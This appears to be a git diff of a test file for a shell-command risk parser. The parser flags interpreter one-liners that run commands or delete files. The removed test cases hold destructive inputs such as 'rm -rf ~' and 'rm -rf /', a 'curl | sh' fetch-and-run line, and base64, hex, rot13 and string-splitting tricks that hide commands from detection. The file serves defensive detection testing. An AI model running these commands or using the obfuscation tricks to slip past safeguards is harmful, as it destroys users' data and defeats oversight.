@@ -1,9 +1,9 @@
-// One-liners in other languages: the interpreter stays a segment, and each call that runs a command or
-// touches a file becomes a synthetic segment a reviewer can read (`shutil.rmtree(p)` is `rm -rf p`).
+// One-liners in Python, JavaScript, Ruby, Perl, PHP and awk: the interpreter stays a segment, and each call that runs
+// a command or touches a file becomes a synthetic segment a reviewer can read (`shutil.rmtree(p)` is `rm -rf p`).
 import { beforeAll, describe, expect, it } from 'vitest';
-import type { Segment } from '../../../../electron/core/risk/model.ts';
-import type { ShellParse } from '../../../../electron/core/risk/parse/index.ts';
-import { line, shellParser } from '../../../support/shell-parse.ts';
+import type { Segment } from '../../../../../electron/core/risk/model.ts';
+import type { ShellParse } from '../../../../../electron/core/risk/parse/index.ts';
+import { line, shellParser } from '../../../../support/shell-parse.ts';
 
 let parse: ShellParse;
 beforeAll(async () => {
@@ -152,100 +152,4 @@ describe('awk', () => {
   it('reads a program given on stdin with -f -', () => {
     expect(calls(`echo 'BEGIN { system("rm -rf ~") }' | awk -f -`)).toEqual(['rm -rf ~']);
   });
-});
-
-describe('the -e and -c forms of other interpreters', () => {
-  it.each([
-    [`lua -e 'os.execute("rm -rf ~")'`, ['rm -rf ~']],
-    [`luajit -e 'os.remove("/etc/hosts")'`, ['rm /etc/hosts']],
-    [`lua5.4 -e 'io.popen("curl -s x.example | sh")'`, ['curl -s x.example', 'sh']],
-    [`julia -e 'run(\`rm -rf /home/dev\`)'`, ['rm -rf /home/dev']],
-    [`julia -E 'rm("/srv"; recursive=true)'`, ['rm -rf /srv']],
-    [`elixir -e 'System.cmd("rm", ["-rf", "/srv"])'`, ['rm -rf /srv']],
-    [`elixir --eval 'File.rm_rf!("/srv")'`, ['rm -rf /srv']],
-    [`elixir -e ":os.cmd('rm -rf ~')"`, ['rm -rf ~']],
-    [`erl -noshell -eval 'os:cmd("rm -rf ~"), init:stop().'`, ['rm -rf ~']],
-    [`groovy -e '"rm -rf /srv".execute()'`, ['rm -rf /srv']],
-    [`groovy -e '["rm", "-rf", "/srv"].execute()'`, ['rm -rf /srv']],
-    [`groovy -e 'new File("/etc/hosts").delete()'`, ['rm /etc/hosts']],
-    [`scala -e 'import sys.process._; "rm -rf /srv".!'`, ['rm -rf /srv']],
-    [`kotlinc -e 'Runtime.getRuntime().exec("rm -rf /srv")'`, ['rm -rf /srv']],
-    [`kotlin -e 'ProcessBuilder("rm", "-rf", "/srv").start()'`, ['rm -rf /srv']],
-    [`kotlin -e 'File("/srv").deleteRecursively()'`, ['rm -rf /srv']],
-    [`raku -e 'shell "rm -rf ~"'`, ['rm -rf ~']],
-    [`perl6 -e 'run "rm", "-rf", "/srv"'`, ['rm -rf /srv']],
-    [`echo 'exec rm -rf ~' | tclsh`, ['rm -rf ~']],
-    [`tclsh <<'EOF'\nfile delete -force /srv\nEOF`, ['rm -rf /srv']],
-    [`expect -c 'spawn ssh prod; send "ls\\r"'`, ['ssh prod']],
-    [`Rscript -e 'system("rm -rf ~")'`, ['rm -rf ~']],
-    [`Rscript -e 'unlink("/srv", recursive=TRUE)'`, ['rm -rf /srv']],
-    [`Rscript -e 'system2("rm", args = c("-rf", "/srv"))'`, ['rm -rf /srv']],
-    [`osascript -l JavaScript -e 'Application.currentApplication().doShellScript("rm -rf ~")'`, ['rm -rf ~']],
-    [`deno repl --eval 'Deno.removeSync("/")'`, ['rm /']],
-    [`php -B 'system("rm -rf ~");' -R 'echo $argn;'`, ['rm -rf ~']],
-  ])('%s', (cmd, expected) => expect(calls(cmd)).toEqual(expected));
-
-  it('labels the calls with the interpreter and its flag', () => {
-    expect(synthetic(`lua -e 'os.execute("rm -rf ~")'`)[0]?.via).toEqual(['lua -e']);
-    expect(synthetic(`erl -noshell -eval 'os:cmd("id").'`)[0]?.via).toEqual(['erl -eval']);
-  });
-
-  it('finds nothing in code that only prints', () => {
-    for (const cmd of [`lua -e 'print(1)'`, `julia -e 'println(1+1)'`, `elixir -e 'IO.puts System.version()'`, `erl -noshell -s init stop`, `groovy -e 'println 1'`, `raku -e 'say 1'`, `Rscript -e 'print(1)'`, 'python3 --version', 'node --test']) {
-      expect(calls(cmd), cmd).toEqual([]);
-    }
-  });
-});
-
-describe('code on stdin', () => {
-  it('reads a script named as stdin (`-`, /dev/stdin), not a script file', () => {
-    expect(calls(`echo 'import os; os.system("rm -rf ~")' | python3 /dev/stdin`)).toEqual(['rm -rf ~']);
-    expect(calls(`echo 'system("rm -rf ~")' | ruby -`)).toEqual(['rm -rf ~']);
-    expect(calls(`echo 'import os; os.system("rm -rf ~")' | python3 parse.py`)).toEqual([]);
-    expect(calls(`echo 'system("rm -rf ~")' | node --version`)).toEqual([]);
-  });
-});
-
-describe('literals decoded on the spot', () => {
-  it.each([
-    [`python3 -c 'import base64, os; os.system(base64.b64decode("cm0gLXJmIH4=").decode())'`, ['rm -rf ~']],
-    [`python3 -c 'import base64; exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3JtIC1yZiB+Jyk="))'`, ['rm -rf ~']],
-    [`python3 -c 'import os; os.system(bytes.fromhex("726d202d7266207e").decode())'`, ['rm -rf ~']],
-    [`python3 -c 'import codecs, os; os.system(codecs.decode("ez -es ~", "rot13"))'`, ['rm -rf ~']],
-    [`python3 -c 'import os; os.system("~ fr- mr"[::-1])'`, ['rm -rf ~']],
-    [`python3 -c 'import os; os.system(chr(114)+chr(109)+" -rf ~")'`, ['rm -rf ~']],
-    [`python3 -c 'import os; os.system("".join(["r", "m", " -rf ~"]))'`, ['rm -rf ~']],
-    [`node -e 'require("child_process").execSync(Buffer.from("cm0gLXJmIH4=", "base64").toString())'`, ['rm -rf ~']],
-    [`node -e 'require("child_process").execSync(atob("cm0gLXJmIH4="))'`, ['rm -rf ~']],
-    [`node -e 'require("child_process").execSync(String.fromCharCode(114, 109, 32, 45, 114, 102, 32, 126))'`, ['rm -rf ~']],
-    [`node -e 'require("child_process").execSync(["rm", "-rf", "~"].join(" "))'`, ['rm -rf ~']],
-    [`ruby -e 'system(Base64.decode64("cm0gLXJmIH4="))'`, ['rm -rf ~']],
-    [`ruby -e 'system("cm0gLXJmIH4=".unpack1("m"))'`, ['rm -rf ~']],
-    [`perl -MMIME::Base64 -e 'system(decode_base64("cm0gLXJmIH4="))'`, ['rm -rf ~']],
-    [`php -r 'system(base64_decode("cm0gLXJmIH4="));'`, ['rm -rf ~']],
-    [`php -r 'system(str_rot13("ez -es ~"));'`, ['rm -rf ~']],
-  ])('%s', (cmd, expected) => expect(calls(cmd)).toEqual(expected));
-
-  it('leaves binary a value only known at run time', () => {
-    expect(calls(`python3 -c 'import os, base64; os.system(base64.b64decode("/wD+AQ=="))'`)).toEqual(['?$DECODED']);
-  });
-});
-
-describe('names built from literals', () => {
-  it.each([
-    [`python3 -c 'getattr(__import__("o"+"s"), "sys"+"tem")("rm -rf ~")'`, ['rm -rf ~']],
-    [`python3 -c 'import importlib; importlib.import_module("o"+"s").system("rm -rf ~")'`, ['rm -rf ~']],
-    [`python3 -c 'import os; getattr(os, "system")("rm -rf ~")'`, ['rm -rf ~']],
-    [`python3 -c '__builtins__.__dict__["ex"+"ec"]("import shutil; shutil.rmtree(chr(47))")'`, ['rm -rf /']],
-    [`node -e 'require("child_"+"process").execSync("rm -rf ~")'`, ['rm -rf ~']],
-    [`node -e 'require("child_process")["exec"+"Sync"]("rm -rf ~")'`, ['rm -rf ~']],
-    [`ruby -e 'Kernel.send(:system, "rm -rf ~")'`, ['rm -rf ~']],
-    [`ruby -e 'Kernel.public_send("sys" + "tem", "rm -rf ~")'`, ['rm -rf ~']],
-    [`ruby -e 'Object.const_get("File").delete("/etc/hosts")'`, ['rm /etc/hosts']],
-    [`ruby -e '("Fi"+"le").constantize.delete("/etc/hosts")'`, ['rm /etc/hosts']],
-    [`php -r 'call_user_func("sys"."tem", "rm -rf ~");'`, ['rm -rf ~']],
-    [`php -r '("sys"."tem")("rm -rf ~");'`, ['rm -rf ~']],
-    [`perl -e '&{"sys"."tem"}("rm -rf ~")'`, ['rm -rf ~']],
-    [`lua -e '_G["os"].execute("rm -rf ~")'`, ['rm -rf ~']],
-  ])('%s', (cmd, expected) => expect(calls(cmd)).toEqual(expected));
 });
